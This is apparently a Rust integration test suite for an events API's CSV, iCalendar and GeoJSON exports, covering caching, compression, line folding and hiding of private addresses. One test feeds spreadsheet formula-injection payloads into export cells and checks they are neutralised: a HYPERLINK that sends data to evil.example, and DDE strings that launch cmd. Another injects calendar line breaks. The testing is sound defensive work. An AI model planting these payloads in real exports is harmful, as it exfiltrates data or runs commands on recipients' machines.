//! Feeds and exports (issue 6): built once per campaign revision, kept
//! compressed and never stale; CSV cells cannot run formulas; calendar text
//! cannot break lines, lines fold at 75 octets, public timestamps are days.
//! Every feed is read back with a parser nobody here wrote.

use std::io::Read;

use icalendar::{Component, EventLike};
use reqwest::header::{
    ACCEPT_ENCODING, CACHE_CONTROL, CONTENT_ENCODING, ETAG, IF_NONE_MATCH, VARY,
};
use sea_orm::{ConnectionTrait, DbBackend, Statement};

use reqwest::StatusCode;
use serde_json::json;
use tests::places::{BERLIN, ST_JOHNS, SYDNEY, TEHRAN};
use tests::{SLUG, TestApp, action, api_test};

fn feed(format: &str) -> String {
    format!("/api/v1/campaigns/{SLUG}/events.{format}")
}

/// Writes `value` into `column` of the event registered with `contact`,
/// straight into the database (as an old row or a bug elsewhere could leave
/// it), and bumps the campaign's revision as every write does.
async fn store(app: &TestApp, contact: &str, column: &str, value: &str) {
    let backend = app.db.get_database_backend();
    let sql = match backend {
        DbBackend::Postgres => format!("UPDATE events SET {column} = $1 WHERE contact_email = $2"),
        _ => format!("UPDATE events SET {column} = ? WHERE contact_email = ?"),
    };
    let done = app
        .db
        .execute_raw(Statement::from_sql_and_values(
            backend,
            sql,
            [value.into(), contact.into()],
        ))
        .await
        .expect("update");
    assert_eq!(done.rows_affected(), 1, "{contact}");
    app.db
        .execute_unprepared("UPDATE campaigns SET revision = revision + 1")
        .await
        .expect("revision bumped");
}

/// GET without gzip: 200, a plain body.
async fn text(app: &TestApp, path: &str) -> String {
    let response = app.get(path).await;
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    assert!(
        response.headers().get(CONTENT_ENCODING).is_none(),
        "{path}: plain when gzip is not accepted"
    );
    response.text().await.expect("body")
}

/// The records of a CSV body as (column → cell) maps, read by the `csv` crate.
fn csv_records(body: &str) -> Vec<std::collections::HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader.headers().expect("header").clone();
    reader
        .records()
        .map(|record| {
            let record = record.expect("a CSV record");
            header
                .iter()
                .zip(record.iter())
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect()
        })
        .collect()
}

/// The events of an iCalendar body, read by the `icalendar` crate's parser.
fn ics_events(body: &str) -> Vec<icalendar::Event> {
    let unfolded = icalendar::parser::unfold(body);
    let calendar: icalendar::Calendar = icalendar::parser::read_calendar(&unfolded)
        .unwrap_or_else(|e| panic!("not iCalendar: {e}\n{body}"))
        .into();
    calendar
        .components
        .iter()
        .filter_map(|c| match c {
            icalendar::CalendarComponent::Event(e) => Some(e.clone()),
            _ => None,
        })
        .collect()
}

/// Every line ends in CRLF: no CR or LF on its own anywhere.
fn assert_crlf_only(body: &str) {
    let bytes = body.as_bytes();
    for (i, b) in bytes.iter().enumerate() {
        match b {
            b'\r' => assert_eq!(bytes.get(i + 1), Some(&b'\n'), "bare CR at {i}: {body:?}"),
            b'\n' => assert!(i > 0 && bytes[i - 1] == b'\r', "bare LF at {i}: {body:?}"),
            _ => {}
        }
    }
    assert!(body.ends_with("\r\n"));
}

api_test!(csv_cells_cannot_run_formulas, |app: TestApp| async move {
    let dangerous = [
        r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#,
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    for (n, text) in dangerous.iter().enumerate() {
        let contact = format!("group{n}@example.org");
        let mut body = action(SYDNEY, "2026-11-05T10:00");
        body.contact_email = Some(contact.clone());
        body.address = Some("Town Hall".into());
        body.public_contact = Some("info@example.org".into());
        app.registered(SLUG, &body).await;
        for column in [
            "title",
            "organiser_name",
            "address",
            "public_contact",
            "city",
        ] {
            store(&app, &contact, column, text).await;
        }
    }
    // A harmless row with a negative offset (St John's, UTC-03:30) and longitude.
    app.registered(SLUG, &action(ST_JOHNS, "2026-11-05T10:00"))
        .await;

    let records = csv_records(&text(&app, &feed("csv")).await);
    assert_eq!(records.len(), dangerous.len() + 1);
    for text in dangerous {
        let neutral = format!("'{text}");
        for column in [
            "title",
            "organiser_name",
            "address",
            "public_contact",
            "city",
        ] {
            assert!(
                records.iter().any(|r| r[column] == neutral),
                "{column} {text:?} not neutralised: {records:?}"
            );
        }
    }
    for record in &records {
        for column in [
            "title",
            "organiser_name",
            "address",
            "public_contact",
            "city",
        ] {
            assert!(
                !record[column].starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{column}: {:?}",
                record[column]
            );
        }
    }
    // Numbers stay numbers.
    let sydney = records
        .iter()
        .find(|r| r["title"] == format!("'{}", dangerous[0]))
        .expect("a Sydney row");
    assert!(sydney["latitude"].starts_with("-33."), "{sydney:?}");
    let st_johns = records
        .iter()
        .find(|r| r["title"] == "Rally for jailed workers")
        .expect("the St John's row, untouched");
    assert_eq!(st_johns["utc_offset"], "-03:30");
    assert!(st_johns["longitude"].starts_with("-52."), "{st_johns:?}");
});

api_test!(
    calendar_text_cannot_break_lines,
    |app: TestApp| async move {
        let r = app
            .registered(SLUG, &action(BERLIN, "2026-11-05T14:00"))
            .await;
        let contact = "private-contact@example.org";
        let injected =
            "a\rEND:VEVENT\rBEGIN:VEVENT\rSUMMARY:injected\r\nEND:VEVENT\nBEGIN:VEVENT\r";
        store(&app, contact, "description", injected).await;
        store(&app, contact, "title", "Rally\rEND:VEVENT").await;
        store(&app, contact, "organiser_name", "Group\r\nBEGIN:VALARM").await;

        for path in [feed("ics"), format!("/api/v1/events/{}.ics", r.event.id)] {
            let ics = text(&app, &path).await;
            assert_crlf_only(&ics);
            let lines: Vec<&str> = ics.split("\r\n").collect();
            for component in ["BEGIN:VEVENT", "END:VEVENT"] {
                assert_eq!(
                    lines.iter().filter(|l| **l == component).count(),
                    1,
                    "{path}: {ics}"
                );
            }
            assert!(
                !lines
                    .iter()
                    .any(|l| l.starts_with("SUMMARY:injected") || l.starts_with("BEGIN:VALARM")),
                "{ics}"
            );
            let events = ics_events(&ics);
            assert_eq!(events.len(), 1, "{path}: {ics}");
            let summary = events[0].get_summary().expect("SUMMARY");
            assert_eq!(summary, "Rally\nEND:VEVENT", "the text stays, as text");
            let description = events[0].get_description().expect("DESCRIPTION");
            assert!(
                description
                    .starts_with("a\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected\nEND:VEVENT\n"),
                "{description:?}"
            );
        }
    }
);

api_test!(
    calendar_lines_fold_at_75_octets,
    |app: TestApp| async move {
        // The icalendar crate's own folding leaves this SUMMARY a 76-octet line.
        let vigil = format!("Vigil {}", "— ".repeat(34)).trim().to_string();
        let persian = "همبستگی با کارگران — ".repeat(6).trim().to_string();
        let description = format!(
            "{} روز همبستگی بین المللی با کارگران ایران {}",
            "—".repeat(90),
            "– ایران — ".repeat(30).trim()
        );
        let mut ids = Vec::new();
        for title in [&vigil, &persian] {
            let mut body = action(TEHRAN, "2026-11-05T14:00");
            body.title = Some(title.clone());
            body.description = Some(description.clone());
            body.contact_email = Some(format!("{}@example.org", ids.len()));
            ids.push(app.registered(SLUG, &body).await.event.id);
        }

        for path in [feed("ics"), format!("/api/v1/events/{}.ics", ids[0])] {
            let ics = text(&app, &path).await;
            assert_crlf_only(&ics);
            let mut folded = 0;
            for line in ics.split_terminator("\r\n") {
                assert!(line.len() <= 75, "{path}: {} octets: {line}", line.len());
                folded += usize::from(line.starts_with(' '));
            }
            assert!(folded > 5, "long lines are folded: {ics}");
            // Unfolded, the text is whole again.
            for event in ics_events(&ics) {
                let title = event.get_summary().expect("SUMMARY");
                assert!(title == vigil || title == persian, "{title:?}");
                let shown = event.get_description().expect("DESCRIPTION");
                assert!(shown.starts_with(&description), "{shown:?}");
            }
        }
        assert_eq!(ics_events(&text(&app, &feed("ics")).await).len(), 2);
    }
);

api_test!(calendar_timestamps_are_days, |app: TestApp| async move {
    let r = app
        .registered(SLUG, &action(BERLIN, "2026-11-05T14:00"))
        .await;
    for path in [feed("ics"), format!("/api/v1/events/{}.ics", r.event.id)] {
        let ics = text(&app, &path).await;
        for name in ["DTSTAMP", "CREATED", "LAST-MODIFIED"] {
            let values: Vec<&str> = ics
                .split("\r\n")
                .filter_map(|l| l.strip_prefix(name)?.strip_prefix(':'))
                .collect();
            assert!(!values.is_empty(), "{path}: no {name}: {ics}");
            for value in values {
                assert!(value.ends_with("T000000Z"), "{path}: {name}:{value}");
            }
        }
    }
});

api_test!(
    exports_are_cached_compressed_and_never_stale,
    |app: TestApp| async move {
        let mut body = action(BERLIN, "2026-11-05T14:00");
        body.address = Some("Secret courtyard 5".into());
        let r = app.registered(SLUG, &body).await;

        let mut before = Vec::new();
        for format in ["csv", "ics", "geojson"] {
            let path = feed(format);
            // The CSV has private columns for organisers (their cookie).
            let vary = if format == "csv" {
                "accept-encoding, cookie"
            } else {
                "accept-encoding"
            };
            let plain = app.get(&path).await;
            assert_eq!(plain.status(), StatusCode::OK);
            assert!(plain.headers().get(CONTENT_ENCODING).is_none());
            let tag = plain.headers()[ETAG].to_str().expect("ETag").to_string();
            assert!(tag.starts_with('"'), "a strong ETag: {tag}");
            assert_eq!(plain.headers()[VARY], vary);
            assert_eq!(plain.headers()[CACHE_CONTROL], "no-cache");
            let plain = plain.text().await.expect("body");
            assert!(plain.contains("Secret courtyard"), "{plain}");

            let zipped = app
                .client
                .get(app.url(&path))
                .header(ACCEPT_ENCODING, "gzip, br")
                .send()
                .await
                .expect("sent");
            assert_eq!(zipped.status(), StatusCode::OK);
            assert_eq!(zipped.headers()[CONTENT_ENCODING], "gzip");
            assert_eq!(zipped.headers()[VARY], vary);
            let zipped_tag = zipped.headers()[ETAG].to_str().expect("ETag").to_string();
            assert_ne!(zipped_tag, tag, "one tag per representation");
            let bytes = zipped.bytes().await.expect("body");
            let mut unzipped = String::new();
            flate2::read::GzDecoder::new(&bytes[..])
                .read_to_string(&mut unzipped)
                .expect("gzip");
            assert_eq!(unzipped, plain, "{format}: the same body either way");

            for (accept, tag) in [("identity", &tag), ("gzip", &zipped_tag)] {
                let again = app
                    .client
                    .get(app.url(&path))
                    .header(ACCEPT_ENCODING, accept)
                    .header(IF_NONE_MATCH, tag.as_str())
                    .send()
                    .await
                    .expect("sent");
                assert_eq!(again.status(), StatusCode::NOT_MODIFIED, "{format}");
                assert_eq!(again.headers()[ETAG].to_str().expect("ETag"), tag);
                assert!(again.bytes().await.expect("body").is_empty());
            }
            before.push((format, tag));
        }

        // The group hides its meeting point: the very next export shows it hidden.
        let hide = json!({ "location_visibility": "city" });
        let version = format!("\"{}\"", r.event.version);
        let response = app
            .patch(r.event.id, Some(&r.edit_token), Some(&version), hide)
            .await;
        assert_eq!(response.status(), StatusCode::OK);
        for (format, tag) in before {
            let response = app
                .client
                .get(app.url(&feed(format)))
                .header(IF_NONE_MATCH, tag.as_str())
                .send()
                .await
                .expect("sent");
            assert_eq!(response.status(), StatusCode::OK, "{format}: changed");
            assert_ne!(response.headers()[ETAG].to_str().expect("ETag"), tag);
            let body = response.text().await.expect("body");
            assert!(!body.contains("Secret courtyard"), "{format}: {body}");
            // Read back by independent parsers.
            match format {
                "csv" => {
                    let records = csv_records(&body);
                    assert_eq!(records.len(), 1);
                    assert_eq!(records[0]["address"], "");
                    assert_eq!(records[0]["latitude"], "52.52437", "Berlin's centre");
                }
                "ics" => {
                    let events = ics_events(&body);
                    assert_eq!(events.len(), 1);
                    assert_eq!(events[0].get_location(), Some("Berlin, Germany"));
                }
                _ => {
                    let geo: serde_json::Value = serde_json::from_str(&body).expect("JSON");
                    assert_eq!(geo["type"], "FeatureCollection");
                    assert_eq!(geo["features"].as_array().expect("features").len(), 1);
                    assert_eq!(geo["features"][0]["properties"]["address"], json!(null));
                    assert_eq!(
                        geo["features"][0]["geometry"]["coordinates"],
                        json!([13.41053, 52.52437])
                    );
                }
            }
        }
    }
);

api_test!(
    many_parallel_export_requests_get_one_body,
    |app: TestApp| async move {
        for n in 0..30 {
            let mut body = action(
                BERLIN,
                &format!("2026-11-05T{:02}:{:02}", 8 + n / 6, n % 6 * 10),
            );
            body.contact_email = Some(format!("group{n}@example.org"));
            app.registered(SLUG, &body).await;
        }
        let requests: Vec<_> = (0..20)
            .map(|_| {
                let (client, url) = (app.client.clone(), app.url(&feed("csv")));
                tokio::spawn(async move {
                    let response = client.get(url).send().await.expect("sent");
                    assert_eq!(response.status(), StatusCode::OK);
                    let tag = response.headers()[ETAG].to_str().expect("ETag").to_string();
                    (tag, response.text().await.expect("body"))
                })
            })
            .collect();
        let mut answers = Vec::new();
        for request in requests {
            answers.push(request.await.expect("joined"));
        }
        assert!(answers.windows(2).all(|w| w[0] == w[1]), "one body for all");
        let records = csv_records(&answers[0].1);
        assert_eq!(records.len(), 30);
        // In start order.
        let starts: Vec<&str> = records
            .iter()
            .map(|r| r["starts_at_utc"].as_str())
            .collect();
        assert!(starts.windows(2).all(|w| w[0] <= w[1]), "{starts:?}");
    }
);
